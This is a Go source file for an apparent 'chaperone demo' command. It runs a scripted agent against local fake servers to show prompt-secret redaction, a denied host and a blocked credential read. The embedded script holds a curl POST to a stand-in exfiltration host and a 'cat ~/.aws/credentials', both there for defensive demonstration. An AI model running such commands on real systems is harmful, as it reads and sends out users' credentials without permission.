// Package demo is `chaperone demo`: a scripted agent (sh, python3, curl,
// cat) in a real session against local servers, offline, showing in one
// screen what Chaperone does: the mode it runs in, a secret stripped from
// a prompt to a fake LLM API and restored in its answer, the identity
// headers the API received, a denied host, a denied read of a credential
// file, the process lineage of what was denied, and where to watch it
// live.
//
// It may import session, config, telemetry, rewrite and internal/upstream;
// cmd/chaperone only calls Run.
package demo

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"

	"github.com/chaperone-dev/chaperone/config"
	"github.com/chaperone-dev/chaperone/event"
	"github.com/chaperone-dev/chaperone/internal/upstream"
	"github.com/chaperone-dev/chaperone/rewrite"
	"github.com/chaperone-dev/chaperone/session"
	"github.com/chaperone-dev/chaperone/telemetry"
)

// Options configures Run.
type Options struct {
	// Dir holds the demo's state, audit log and the agent's home; a new
	// temporary directory when empty.
	Dir string
	// Stdout gets the demo's screen; Stderr the session's notices.
	Stdout, Stderr io.Writer
	// Getenv is Chaperone's environment (os.Getenv when nil); Environ the
	// agent's, before the demo's variables.
	Getenv  func(string) string
	Environ []string
}

// ExitError is a scripted agent that exited with Code.
type ExitError struct{ Code int }

func (e ExitError) Error() string { return fmt.Sprintf("demo: the agent exited with %d", e.Code) }

// The demo's hosts.
const (
	llmHost   = "llm.demo.test"
	exfilHost = "exfil.demo.test"
)

// script is the agent. It reads the servers' URLs and the token from its
// environment and uses only what an agent would.
const script = `
set -u
echo "== 1. The agent asks the LLM API, with a GitHub token in its prompt"
python3 - <<'PY'
import json, os, urllib.request
tok = os.environ["DEMO_TOKEN"]
body = json.dumps({"model": "demo-model", "max_tokens": 64,
    "messages": [{"role": "user", "content": "Deploy the site with token " + tok + " please"}]}).encode()
req = urllib.request.Request(os.environ["LLM_URL"] + "/v1/messages", data=body,
    headers={"Content-Type": "application/json", "anthropic-version": "2023-06-01"})
ans = json.load(urllib.request.urlopen(req, timeout=30))
text = "".join(b.get("text", "") for b in ans.get("content", []))
print("   the answer quotes the real token: Chaperone restored it" if tok in text else "   the answer lacks the token")
PY
echo "== 2. A child process (sh > python3 > curl) posts notes to a host the policy denies"
python3 - <<'PY'
import os, subprocess
r = subprocess.run(["curl", "-sS", "--http1.1", "-o", "/dev/null", "-w", "%{http_code}", "--data", "notes=...", os.environ["EXFIL_URL"] + "/upload"],
    capture_output=True, text=True)
print("   curl: HTTP " + r.stdout if r.returncode == 0 else "   curl: refused (exit %d: %s)" % (r.returncode, r.stderr.strip().split(": ", 1)[-1][:60]))
PY
echo "== 3. The agent reads ~/.aws/credentials"
if cat "$HOME/.aws/credentials" >/dev/null 2>&1; then
  echo "   cat: read it (file mediation is off: it needs root on Linux)"
else
  echo "   cat: refused (Operation not permitted)"
fi
`

// Run runs the demo and writes its screen to o.Stdout.
func Run(ctx context.Context, o Options) error {
	for _, tool := range []string{"sh", "curl", "python3", "cat"} {
		if _, err := exec.LookPath(tool); err != nil {
			return fmt.Errorf("demo: needs %s on PATH: %w", tool, err)
		}
	}
	if o.Getenv == nil {
		o.Getenv = os.Getenv
	}
	if o.Stderr == nil {
		o.Stderr = io.Discard
	}
	dir := o.Dir
	if dir == "" {
		d, err := os.MkdirTemp("", "chaperone-demo-")
		if err != nil {
			return fmt.Errorf("demo: %w", err)
		}
		dir = d
	}
	home := filepath.Join(dir, "home")
	if err := writeCredentials(home); err != nil {
		return err
	}
	ca, err := upstream.NewCA("demo-upstream")
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	caFile, err := ca.WriteFile(dir)
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	llm, err := upstream.Start(upstream.Options{Name: llmHost, Addr: "127.0.0.2:0", CA: ca, Handler: upstream.LLMHandler(16)})
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	defer llm.Close()
	exfil, err := upstream.Start(upstream.Options{Name: exfilHost, Addr: "127.0.0.3:0", CA: ca})
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	defer exfil.Close()

	cfg := config.Default(o.Getenv, os.Geteuid())
	cfg.Mode = config.ModeAuto // transparent when it can be, else the explicit proxy
	cfg.StateDir = filepath.Join(dir, "state")
	cfg.Log = filepath.Join(dir, "audit.jsonl")
	cfg.DenyHosts = []string{exfilHost}
	cfg.LLMHosts = []string{llmHost}
	cfg.UpstreamCA = []string{caFile}
	cfg.Resolve = []string{llmHost + ":" + llm.Addr.Addr().String(), exfilHost + ":" + exfil.Addr.Addr().String()}
	cfg.DNSUpstreams = []string{"127.0.0.1:9"} // names not the demo's go nowhere
	if err := cfg.Validate(); err != nil {
		return fmt.Errorf("demo: %w", err)
	}

	out := o.Stdout
	fmt.Fprintf(out, "Chaperone demo, offline: a scripted agent (sh, python3, curl, cat) in a real session.\n")
	fmt.Fprintf(out, "Local servers: %s (a fake LLM API) on %s, %s (denied by deny_hosts) on %s.\n", llmHost, llm.Addr, exfilHost, exfil.Addr)

	argv := []string{"sh", "-c", script}
	s, err := session.New(session.Config{Settings: cfg, Agent: session.AgentName(argv)}, session.Deps{Getenv: o.Getenv, Stderr: o.Stderr})
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	if err := s.Start(ctx); err != nil {
		s.Close()
		return fmt.Errorf("demo: %w", err)
	}
	if s.Mode() == config.ModeTransparent {
		fmt.Fprintf(out, "Session %s, transparent: the kernel hands every connection of the agent's processes to\n"+
			"Chaperone; the agent has no proxy settings, and its file opens wait for the policy.\n", s.ID())
	} else {
		fmt.Fprintf(out, "Session %s, explicit proxy (transparent mode needs root on Linux): the agent's\n"+
			"HTTP(S)_PROXY points at %s; programs that ignore it would not be covered.\n", s.ID(), s.ProxyAddr())
	}
	tok := upstream.FakeGitHubToken()
	env := append(slices.Clone(o.Environ), "HOME="+home, "DEMO_TOKEN="+tok, "LLM_URL="+llm.URL, "EXFIL_URL="+exfil.URL)
	code, err := s.Run(ctx, session.Command{Argv: argv, Env: env, Stdout: out, Stderr: o.Stderr})
	if err != nil {
		s.Close()
		return fmt.Errorf("demo: %w", err)
	}
	if err := s.Close(); err != nil {
		return fmt.Errorf("demo: %w", err)
	}

	fmt.Fprintf(out, "\nWhat the servers received:\n")
	if err := received(out, llm.Requests(), tok); err != nil {
		return err
	}
	fmt.Fprintf(out, "  %s: %d requests\n", exfilHost, len(exfil.Requests()))
	fmt.Fprintf(out, "\nThe audit log says:\n")
	if err := fromLog(out, cfg.AuditLogPath(), s.ID()); err != nil {
		return err
	}
	fmt.Fprintf(out, "\nEvery event: chaperone events --log %s --session %s\n", cfg.AuditLogPath(), s.ID())
	fmt.Fprintf(out, "Watch it live: chaperone ui --log %s\n", cfg.AuditLogPath())
	switch {
	case len(exfil.Requests()) != 0:
		return errors.New("demo: the denied host received a request")
	case code != 0:
		return ExitError{code}
	}
	return nil
}

// writeCredentials makes the agent's home with a credentials file that
// holds AWS's documented example key.
func writeCredentials(home string) error {
	aws := filepath.Join(home, ".aws")
	if err := os.MkdirAll(aws, 0o755); err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	creds := "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
	if err := os.WriteFile(filepath.Join(aws, "credentials"), []byte(creds), 0o644); err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	return nil
}

// identityHeaders are the identity headers shown, as the API got them.
var identityHeaders = []string{"X-Chaperone-Session", "X-Chaperone-Agent", "X-Chaperone-Lineage", "Traceparent"}

// received shows what the fake LLM API received: the prompt, with its
// placeholder, and the identity headers. The token itself is never shown:
// if it reached the API, that is said, and the demo fails.
func received(w io.Writer, reqs []upstream.Request, tok string) error {
	var call *upstream.Request
	for i := range reqs {
		if reqs[i].Method == http.MethodPost && reqs[i].Path == "/v1/messages" {
			call = &reqs[i]
		}
	}
	if call == nil {
		fmt.Fprintf(w, "  %s: no LLM call\n", llmHost)
		return errors.New("demo: the LLM API received no call")
	}
	if strings.Contains(string(call.Body), tok) {
		fmt.Fprintf(w, "  %s: the token itself (not redacted)\n", llmHost)
		return errors.New("demo: the token reached the LLM API")
	}
	req, err := rewrite.Inspect(rewrite.API{Provider: rewrite.Anthropic, Op: rewrite.OpMessages}, call.Path, call.Body)
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	fmt.Fprintf(w, "  %s: POST %s, prompt %q\n", llmHost, call.Path, telemetry.Printable(req.Prompt))
	for _, h := range identityHeaders {
		if v := call.Header.Get(h); v != "" {
			fmt.Fprintf(w, "    %s: %s\n", h, telemetry.Printable(v))
		}
	}
	return nil
}

// fromLog shows the session's headline from the audit log: its denials
// with the lineage of the process denied, its LLM calls, and how many
// events and routine reads it holds.
func fromLog(w io.Writer, path, session string) error {
	f, err := os.Open(path)
	if err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	defer f.Close()
	var recs []telemetry.Record
	if err := telemetry.ReadRecords(f, telemetry.Filter{Session: session}, func(r telemetry.Record) error {
		recs = append(recs, r)
		return nil
	}); err != nil {
		return fmt.Errorf("demo: %w", err)
	}
	routine, shown := 0, telemetry.FoldView(recs, false)
	for _, r := range shown {
		if r.Kind == telemetry.KindFileReads {
			routine += r.Count
		}
	}
	type seen struct{ rule, who string }
	denied := map[seen]bool{}
	for _, r := range shown {
		switch {
		case r.Verdict == event.Deny:
			// A denial once per rule and process: a host denied is its
			// connection's, its TLS's and its request's (or its name's,
			// asked for A and AAAA).
			k := seen{r.Rule, lineage(r.Process)}
			if denied[k] {
				continue
			}
			denied[k] = true
			fmt.Fprintf(w, "  DENIED %s %s  by %s\n", r.Kind, telemetry.Describe(r), k.who)
			fmt.Fprintf(w, "         %s: %s (by %s)\n", telemetry.Printable(r.Rule), telemetry.Printable(r.Reason), r.DecidedBy)
		case r.Kind == event.KindLLM:
			fmt.Fprintf(w, "  llm    %s %s: %d in / %d out tokens, %d ms, %d placeholder restored\n",
				telemetry.Printable(r.Provider), telemetry.Printable(r.Model), r.InputTokens, r.OutputTokens, r.LatencyMS, r.Restored)
			fmt.Fprintf(w, "         prompt %q\n", telemetry.Printable(r.Prompt))
		}
	}
	all := fmt.Sprintf("  %d records", len(recs))
	if routine > 0 {
		folds := 0
		for _, r := range shown {
			if r.Kind == telemetry.KindFileReads {
				folds++
			}
		}
		all += fmt.Sprintf("; %d routine file reads (libraries, locale data) are %d lines of it", routine, folds)
	}
	fmt.Fprintln(w, all)
	return nil
}

// lineage names a process and its ancestors, the session's root first.
func lineage(p *telemetry.Process) string {
	if p == nil {
		return "(no process)"
	}
	names := p.Lineage
	if len(names) == 0 {
		names = []string{telemetry.ProcessName(p)}
	}
	l := make([]string, len(names))
	for i, n := range names {
		l[i] = telemetry.Printable(n)
	}
	return fmt.Sprintf("%s[%d]", strings.Join(l, " > "), p.PID)
}
